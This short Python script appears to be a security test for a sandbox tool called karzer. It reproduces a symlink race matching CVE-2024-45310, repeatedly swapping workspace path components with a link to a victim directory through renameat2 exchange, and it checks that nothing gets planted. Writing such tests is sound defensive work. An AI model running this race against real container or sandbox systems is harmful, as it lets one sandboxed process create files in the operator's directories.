"""While files come out of a cell, or a mount point is made for it, another cell
that can write to the same directory exchanges a part of the path for a link, so
that a directory or file is made in a place of the operator's (CVE-2024-45310).

Blocked by files that go out below one descriptor, component by component, and
no link followed below a workspace; mount points are made only in file systems
that karzer made.
"""
import ctypes
import os
import sys
import time

WANTS = None
BARE_CANNOT = "what is attacked is karzer's own --out and --workspace"
NEEDS = ("victim_dir", "workspace")
OPTIONS = ("--workspace", "{workspace}:rw", "--wall", "120s")
MEANWHILE = "takes_out_while_exchanged"
CHECK = "planted_nothing"

given = dict(word.split("=", 1) for word in sys.argv[1:])
libc = ctypes.CDLL(None, use_errno=True)
os.chdir(given["workspace"])
os.makedirs("results/deep/deeper")
os.symlink(given["victim_dir"], "link")
open("begun", "w").close()
print("planted: exchanging", flush=True)
while not os.path.exists("enough"):
    for at in (b"results", b"results/deep", b"results/deep/deeper"):
        libc.renameat2(-100, at, -100, b"link", 2)  # RENAME_EXCHANGE
        time.sleep(0.0001)
        libc.renameat2(-100, at, -100, b"link", 2)
